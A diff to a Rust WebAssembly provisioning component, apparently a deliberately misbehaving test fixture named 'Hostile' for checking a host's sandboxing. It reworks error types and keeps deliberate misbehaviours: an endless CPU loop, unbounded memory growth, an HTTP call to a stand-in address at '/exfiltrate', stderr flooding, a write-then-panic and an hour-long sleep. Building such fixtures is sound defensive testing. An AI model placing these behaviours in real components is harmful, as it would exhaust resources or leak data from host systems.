@@ -23,8 +23,8 @@ mod bindings {
 use bindings::exports::soracom::krypton::provisioning::Guest;
 use bindings::soracom::krypton::secret_store;
 use bindings::soracom::krypton::types::{
-    ExportFile, ProvisionError, ProvisionReport, ProvisionRequest, Target, TransportError,
-    TransportKind,
+    ExportFile, Failure, ProvisionError, ProvisionReport, ProvisionRequest, Target, TargetInfo,
+    TransportError, TransportKind,
 };
 use bindings::wasi::clocks::monotonic_clock;
 use bindings::wasi::http::{outgoing_handler, types as http};
@@ -37,78 +37,27 @@ fn transport(message: impl Into<String>) -> ProvisionError {
         kind: TransportKind::Other,
         request: String::new(),
         message: message.into(),
-        hint: None,
         attempts: 1,
     })
 }
 
+impl From<ProvisionError> for Failure {
+    fn from(error: ProvisionError) -> Self {
+        Failure { error, hint: None }
+    }
+}
+
 impl Guest for Hostile {
-    fn provision(request: ProvisionRequest) -> Result<ProvisionReport, ProvisionError> {
-        if let Some(name) = request
-            .request_parameters
-            .as_deref()
-            .and_then(|p| p.strip_prefix("hostile:"))
-        {
-            return by_name(name, &request.endpoint);
-        }
-        match request.target {
-            Target::AzureIot => {
-                let mut n: u64 = 0;
-                loop {
-                    n = std::hint::black_box(n.wrapping_add(1));
-                }
-            }
-            Target::AwsIot => {
-                let mut hoard: Vec<Vec<u8>> = Vec::new();
-                loop {
-                    hoard.push(vec![1u8; 1 << 20]);
-                    std::hint::black_box(&hoard);
-                }
-            }
-            Target::AwsCognito => {
-                let req = http::OutgoingRequest::new(http::Fields::new());
-                let _ = req.set_scheme(Some(&http::Scheme::Http));
-                let _ = req.set_authority(Some("192.0.2.1:80"));
-                let _ = req.set_path_with_query(Some("/exfiltrate"));
-                let future =
-                    outgoing_handler::handle(req, None).map_err(|e| transport(format!("{e:?}")))?;
-                loop {
-                    if let Some(result) = future.get() {
-                        return match result {
-                            Ok(Ok(_)) => Err(transport("reached it")),
-                            Ok(Err(code)) => Err(transport(format!("{code:?}"))),
-                            Err(()) => Err(transport("taken")),
-                        };
-                    }
-                    future.subscribe().block();
-                }
-            }
-            Target::AwsCognitoOpenid => {
-                let line = "x".repeat(1023);
-                for _ in 0..2_000 {
-                    eprintln!("{line}");
-                }
-                Err(ProvisionError::Unsupported("flooded stderr".into()))
-            }
-            Target::Arc => {
-                secret_store::put("arc", br#"{"written":"before the trap"}"#)
-                    .map_err(|_| ProvisionError::Storage("put".into()))?;
-                panic!("trap in the middle of provisioning");
-            }
-            Target::Inventory => {
-                monotonic_clock::subscribe_duration(3_600_000_000_000).block();
-                Err(ProvisionError::Timeout("slept an hour".into()))
-            }
-            _ => panic!("trap at once"),
-        }
+    fn provision(request: ProvisionRequest) -> Result<ProvisionReport, Failure> {
+        provision(request).map_err(Failure::from)
     }
 
-    fn status(_: Target) -> Result<Option<ProvisionReport>, ProvisionError> {
+    fn status(_: Target) -> Result<Option<ProvisionReport>, Failure> {
         Ok(None)
     }
 
-    fn wireguard_config(_: Vec<String>) -> Result<String, ProvisionError> {
-        Err(ProvisionError::Unsupported("hostile".into()))
+    fn wireguard_config(_: Vec<String>) -> Result<String, Failure> {
+        Err(ProvisionError::Unsupported("hostile".into()).into())
     }
 
     fn render_export(
@@ -116,12 +65,78 @@ impl Guest for Hostile {
         _: String,
         _: String,
         _: Vec<String>,
-    ) -> Result<Vec<ExportFile>, ProvisionError> {
-        Err(ProvisionError::Unsupported("hostile".into()))
+    ) -> Result<Vec<ExportFile>, Failure> {
+        Err(ProvisionError::Unsupported("hostile".into()).into())
+    }
+
+    /// The hostile component claims no target of its own.
+    fn targets() -> Vec<TargetInfo> {
+        Vec::new()
     }
 
     fn version() -> (String, String) {
-        ("hostile".into(), "soracom:krypton@0.2.0".into())
+        ("hostile".into(), "soracom:krypton@0.3.0".into())
+    }
+}
+
+/// The misbehaviour for `request` (see the crate docs).
+fn provision(request: ProvisionRequest) -> Result<ProvisionReport, ProvisionError> {
+    if let Some(name) = request
+        .request_parameters
+        .as_deref()
+        .and_then(|p| p.strip_prefix("hostile:"))
+    {
+        return by_name(name, &request.endpoint);
+    }
+    match request.target {
+        Target::AzureIot => {
+            let mut n: u64 = 0;
+            loop {
+                n = std::hint::black_box(n.wrapping_add(1));
+            }
+        }
+        Target::AwsIot => {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                hoard.push(vec![1u8; 1 << 20]);
+                std::hint::black_box(&hoard);
+            }
+        }
+        Target::AwsCognito => {
+            let req = http::OutgoingRequest::new(http::Fields::new());
+            let _ = req.set_scheme(Some(&http::Scheme::Http));
+            let _ = req.set_authority(Some("192.0.2.1:80"));
+            let _ = req.set_path_with_query(Some("/exfiltrate"));
+            let future =
+                outgoing_handler::handle(req, None).map_err(|e| transport(format!("{e:?}")))?;
+            loop {
+                if let Some(result) = future.get() {
+                    return match result {
+                        Ok(Ok(_)) => Err(transport("reached it")),
+                        Ok(Err(code)) => Err(transport(format!("{code:?}"))),
+                        Err(()) => Err(transport("taken")),
+                    };
+                }
+                future.subscribe().block();
+            }
+        }
+        Target::AwsCognitoOpenid => {
+            let line = "x".repeat(1023);
+            for _ in 0..2_000 {
+                eprintln!("{line}");
+            }
+            Err(ProvisionError::Unsupported("flooded stderr".into()))
+        }
+        Target::Arc => {
+            secret_store::put("arc", br#"{"written":"before the trap"}"#)
+                .map_err(|_| ProvisionError::Storage("put".into()))?;
+            panic!("trap in the middle of provisioning");
+        }
+        Target::Inventory => {
+            monotonic_clock::subscribe_duration(3_600_000_000_000).block();
+            Err(ProvisionError::Timeout("slept an hour".into()))
+        }
+        _ => panic!("trap at once"),
     }
 }
 
